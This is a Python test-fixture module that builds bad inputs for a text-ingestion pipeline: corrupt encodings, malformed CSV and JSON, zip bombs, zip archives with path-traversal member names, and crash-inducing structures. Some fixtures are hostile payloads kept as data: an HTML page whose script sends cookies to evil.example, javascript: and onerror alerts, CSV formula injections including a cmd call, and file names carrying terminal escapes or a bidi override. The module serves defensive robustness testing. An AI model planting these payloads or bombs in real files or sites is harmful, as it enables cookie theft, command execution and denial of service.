"""Bad inputs for tests/test_bad_inputs.py: small ones as constants, large ones built by code
(in memory, or into a test's tmp_path) so nothing big is committed.

Each generator returns `(name, bytes)` pairs, the shape `lib.pipeline.corpus.load_blobs` takes.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
from pathlib import Path

Blob = tuple[str, bytes]

ARTICLE = (
    "Prime Minister Shigeru Ishiba met President Donald Trump in Washington to discuss tariffs "
    "on Japanese cars and the cost of the security alliance. Officials in Tokyo said the talks "
    "were constructive and that both governments would continue to negotiate on trade."
)


def article(tag: str) -> str:
    """A usable English article, different for each `tag` so it is never a duplicate."""
    return f"{ARTICLE} The note on this story is {tag}."


# --- Files that are not text -------------------------------------------------------------------
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06" + bytes(40)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(range(256))
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)


def random_bytes(size: int = 4096, seed: int = 5) -> bytes:
    return random.Random(seed).randbytes(size)


# --- Text that is broken -----------------------------------------------------------------------
EMPTY = b""
WHITESPACE = b" \n\t\r\n   \n"
NUL_INSIDE_TEXT = article("nul").replace(" the talks", " the\x00 talks").encode()
# Invalid UTF-8 lead bytes and C1 controls mixed through: no single-byte code page reads it as text.
UNDECODABLE = bytes(range(0x80, 0xA0)) * 40 + b"\x00\x01\x02\x03" * 30
UTF16_WITH_BOM = article("utf-16 with BOM").encode("utf-16")
UTF16_LE_NO_BOM = article("utf-16-le without BOM").encode("utf-16-le")
UTF16_BE_NO_BOM = article("utf-16-be without BOM").encode("utf-16-be")


def very_long_line(chars: int = 1_000_000) -> bytes:
    """One article on a single line of `chars` characters: no line breaks at all."""
    sentence = "Japan and the United States discussed trade, exports and tariffs again today. "
    return (sentence * (chars // len(sentence) + 1))[:chars].encode()


def large_text_file(path: Path, size: int = 50 * 1024 * 1024) -> Path:
    """A `size`-byte text file, written in blocks (never built in memory as one string)."""
    block = (ARTICLE + "\n").encode() * 256
    with path.open("wb") as out:
        written = 0
        while written < size:
            chunk = block[: size - written]
            out.write(chunk)
            written += len(chunk)
    return path


def tiny_files(folder: Path, count: int = 10_000) -> Path:
    """`count` short, real, distinct articles, one file each."""
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        (folder / f"{number:05d}.txt").write_text(
            f"Japan and the United States met for talks number {number}.", encoding="utf-8"
        )
    return folder


# --- Other languages: analysed, flagged, tagged only by the taxonomy's own terms for them ---------------------------
JAPANESE = (
    "石破茂首相は7日、ワシントンでトランプ大統領と会談し、日本車への関税と日米同盟の防衛費について"
    "協議した。政府関係者は、会談は建設的だったと述べ、両政府は貿易交渉を続けることで一致した。"
)
CHINESE = (
    "日本首相石破茂在华盛顿与美国总统特朗普会晤，讨论了对日本汽车征收关税以及美日同盟的防务费用。"
    "官员表示，会谈具有建设性，两国政府将继续就贸易进行谈判。"
)
RUSSIAN = (
    "Премьер-министр Японии Сигэру Исиба встретился в Вашингтоне с президентом Дональдом Трампом, "
    "чтобы обсудить пошлины на японские автомобили и расходы на оборону в рамках союза."
)


# --- Tables ------------------------------------------------------------------------------------
CSV_NO_TEXT_COLUMN = b"id,section,author\n1,World,Jane Doe\n2,Politics,John Roe\n"
CSV_RAGGED = (
    "title,text,date\n"
    f'Short,"{article("ragged short")}"\n'  # one field missing
    f'Long,"{article("ragged long")}",2024-11-08,extra,fields\n'
    f'Fine,"{article("ragged fine")}",2024-11-09\n'
).encode()
CSV_SEMICOLON = f'title;text;date\nSemi;"{article("semicolon; with a semicolon inside")}";2024-11-08\n'.encode()
CSV_QUOTED_NEWLINES = (
    "title,text\n"
    f'"Two\nline title","{article("first paragraph")}\n\nSecond paragraph, after a blank line."\n'
    f'Next,"{article("next row")}"\n'
).encode()
CSV_BOM = ("\ufefftext,title\n" + f'"{article("bom")}",BOM\n').encode()
CSV_FORMULAS = (
    'title,text,=HYPERLINK("http://evil.example")\n'
    f"=cmd|' /C calc'!A0,\"{article('formula')}\",+1\n"
    f'@SUM(A1),"{article("formula two")}",-2\n'
).encode()
JSONL_BROKEN = "\n".join(
    [
        json.dumps({"text": article("jsonl one")}),
        '{"text": "cut off',
        "not json at all",
        "",
        json.dumps({"text": article("jsonl two")}),
        "[1, 2, 3]",
    ]
).encode()
# (name, bytes, what the report should say)
JSON_NOT_RECORDS = [
    ("number.json", b"42", "not a list of records"),
    ("string.json", b'"just a string"', "not a list of records"),
    ("null.json", b"null", "not a list of records"),
    ("object.json", b'{"id": 1, "section": "World"}', "not a list of records"),
    ("truncated.json", b'[{"text": "Japan', "not valid JSON"),
]
JSON_LIST_OF_STRINGS = json.dumps(["Japan and the US met.", "Another story."]).encode()


# --- Zips --------------------------------------------------------------------------------------
def zip_bytes(members: list[Blob] | dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in items:
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_with_unsafe_paths() -> bytes:
    return zip_bytes(
        {
            "ok.txt": article("zip ok").encode(),
            "../escape.txt": b"Escaped text must never be read.",
            "a/../../escape2.txt": b"Escaped text must never be read.",
            "/etc/absolute.txt": b"Absolute text must never be read.",
            "C:/windows/drive.txt": b"Drive-letter text must never be read.",
            "..\\backslash.txt": b"Backslash text must never be read.",
        }
    )


def zip_with_nameless_member() -> bytes:
    """An entry whose name is empty (zipfile cannot write one, a hand-made archive can) beside
    a good one: the name length fields are zeroed and the name byte cut out."""
    data = bytearray(zip_bytes([("X", b"Nameless member."), ("ok.txt", article("beside a nameless").encode())]))
    central = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    struct.pack_into("<H", data, 26, 0)  # the first local header's name length
    struct.pack_into("<H", data, central + 28, 0)  # ...and its central directory entry's
    size, offset = struct.unpack_from("<II", data, end + 12)
    struct.pack_into("<II", data, end + 12, size - 1, offset - 1)
    # The second entry's local header moves one byte earlier.
    second = data.index(b"PK\x01\x02", central + 1)
    struct.pack_into("<I", data, second + 42, struct.unpack_from("<I", data, second + 42)[0] - 1)
    del data[central + 46]
    del data[30]
    return bytes(data)


def high_ratio_zip(expanded: int = 50_000_000) -> bytes:
    """One member of zeros: tiny compressed, far above the ratio limit once expanded."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.txt", "w", force_zip64=True) as member,
    ):
        block = b"0" * 1_000_000
        for _ in range(expanded // len(block)):
            member.write(block)
    return buffer.getvalue()


def lying_size_zip(declared: int = 1000, expanded: int = 100_000_000, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A member whose headers claim `declared` bytes but whose data inflates to `expanded`:
    the size checks pass, so only a bounded read keeps it out of memory."""
    data = bytearray(zip_bytes({"liar.txt": b"A" * expanded}, method))
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, declared)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


def zip_of_zips(levels: int = 4, copies: int = 8) -> bytes:
    """42.zip in miniature: each level holds `copies` of the level below."""
    inner = zip_bytes({"leaf.txt": b"0" * 500_000})
    for level in range(levels):
        inner = zip_bytes({f"level{level}-{i}.zip": inner for i in range(copies)})
    return inner


def bzip2_bomb(expanded: int = 200_000_000) -> bytes:
    """bzip2 packs runs of one byte far tighter than deflate: a few kB expand to `expanded`."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive,
        archive.open("bz.txt", "w", force_zip64=True) as member,
    ):
        block = b"\x00" * 10_000_000
        for _ in range(expanded // len(block)):
            member.write(block)
    return buffer.getvalue()


def many_member_zip(count: int) -> bytes:
    return zip_bytes([(f"m{i}.txt", b"x") for i in range(count)], method=zipfile.ZIP_STORED)


# --- HTML --------------------------------------------------------------------------------------
SCRIPT_MARKER = "STOLEN_COOKIE_MARKER"
HOSTILE_HTML = f"""<!DOCTYPE html><html><head><title>Hostile Page</title>
<script>document.location='http://evil.example/?c='+document.cookie; // {SCRIPT_MARKER}</script>
<style>body {{ background: url("javascript:alert('{SCRIPT_MARKER}')") }}</style>
</head><body onload="alert('{SCRIPT_MARKER}')">
<article><h1>Ishiba and Trump Discuss Tariffs</h1>
<p onclick="alert('{SCRIPT_MARKER}')">{ARTICLE}</p>
<script type="text/javascript">var x = "{SCRIPT_MARKER}"; fetch('http://evil.example/' + x);</script>
<p>Read <a href="javascript:alert('{SCRIPT_MARKER}')">more about the alliance</a> and
<img src="x" onerror="alert('{SCRIPT_MARKER}')"> the defence budget talks in Tokyo.</p>
<noscript>{SCRIPT_MARKER} enable scripts</noscript>
<iframe src="javascript:alert('{SCRIPT_MARKER}')"></iframe>
</article></body></html>""".encode()


# --- Dates -------------------------------------------------------------------------------------
def dated_text(day: str, tag: str) -> bytes:
    """An article whose only date is `day`, at the top as a header date."""
    return f"Talks in Washington\n{day}\n\n{article(tag)}".encode()


def dated_csv(day: str, tag: str) -> bytes:
    return f'date,text\n{day},"{article(tag)}"\n'.encode()


# --- Crash classes of issue 12 (each once ended the whole batch) --------------------------------
def deeply_nested(depth: int = 100_000) -> bytes:
    """A JSON value nested `depth` arrays deep: past any recursive decoder's stack."""
    return b"[" * depth + b"]" * depth


def json_record_with_deep_field(tag: str, depth: int = 100_000) -> bytes:
    """A list of two records, the first carrying a field nested `depth` deep, the second fine."""
    deep = json.dumps({"text": article(f"{tag} deep"), "extra": "@"}).encode().replace(b'"@"', deeply_nested(depth))
    return b"[" + deep + b", " + json.dumps({"text": article(f"{tag} fine")}).encode() + b"]"


def jsonl_with_deep_line(tag: str, depth: int = 100_000) -> bytes:
    return b"\n".join([json.dumps({"text": article(f"{tag} before")}).encode(), deeply_nested(depth), b""])


def json_with_huge_number(tag: str, digits: int = 5_000) -> bytes:
    """A record whose id is a `digits`-digit integer: int() refuses more than 4,300 digits."""
    return b'[{"id": ' + b"7" * digits + b', "text": ' + json.dumps(article(tag)).encode() + b"}]"


def json_with_lone_surrogate(tag: str) -> bytes:
    """A record whose text holds "\\ud800", an escape for half a UTF-16 pair."""
    return json.dumps([{"text": article(tag) + " \ud800 Broken escape above."}]).encode()


def _central_directory(data: bytearray) -> tuple[int, int]:
    """(offset of the first central directory header, offset of the end record)."""
    return data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")


def zip_with_lying_directory_offset(tag: str) -> bytes:
    """The end record places the central directory far past where it is: zipfile then seeks to
    a negative offset for each member (ValueError: negative seek value)."""
    data = bytearray(zip_bytes({"lied.txt": article(tag).encode()}))
    _, end = _central_directory(data)
    struct.pack_into("<I", data, end + 16, 0x7FFF0000)
    return bytes(data)


def zip_with_unknown_version(tag: str) -> bytes:
    """The central directory asks for zip version 9.9 to extract (NotImplementedError)."""
    data = bytearray(zip_bytes({"future.txt": article(tag).encode()}))
    central, _ = _central_directory(data)
    data[central + 6] = 99
    return bytes(data)


def zip_with_garbled_names(tag: str) -> bytes:
    """A member name whose bytes were damaged into control characters and an escape sequence."""
    data = bytearray(zip_bytes({"abcdefgh.txt": article(tag).encode()}, method=zipfile.ZIP_STORED))
    for at in (data.index(b"abcdefgh"), data.rindex(b"abcdefgh")):  # local and central headers
        data[at : at + 8] = b"\x1b[2J\r\n\x07x"
    return bytes(data)


def csv_with_cell_over_field_limit(tag: str, chars: int = 2_100_000) -> bytes:
    """A cell longer than the csv module's field limit (and the article limit), then a good row."""
    return f'title,text\nHuge,"{"x " * (chars // 2)}"\nAfter,"{article(tag)}"\n'.encode()


def csv_with_duplicate_headers(tag: str) -> bytes:
    """`text,title,text`: the third column must not overwrite the article's text."""
    return f'text,title,text\n"{article(tag)}",Repeated header,a short note\n'.encode()


def csv_with_unclosed_quote(tag: str) -> bytes:
    """A quote opened and never closed: the lines after it are read into its row."""
    return f'title,text\nOpen,"{article(tag)}\nNext,"{article(tag + " next")}"\n'.encode()


def csv_with_excel_separator_line(tag: str) -> bytes:
    return f'sep=;\ntitle;text;date\nSemi;"{article(tag)}";2024-11-08\n'.encode()


def csv_with_cr_line_endings(tag: str) -> bytes:
    """Classic Mac line endings (CR only), with semicolons and commas in the text."""
    text = article(tag).replace(" and ", "; and, ")
    return f'title;text\rOne;"{text}"\rTwo;"{text} Again."\r'.encode()


# Names that would act on a terminal: a clear-screen escape, a forged report line, a bidi override.
HOSTILE_NAMES = (
    "\x1b[2J\x1b[31mred.txt",
    "fake.txt\n  - good.txt: forged line (looks like ours)\nend.txt",
    "evil\u202etxt.exe.txt",
)
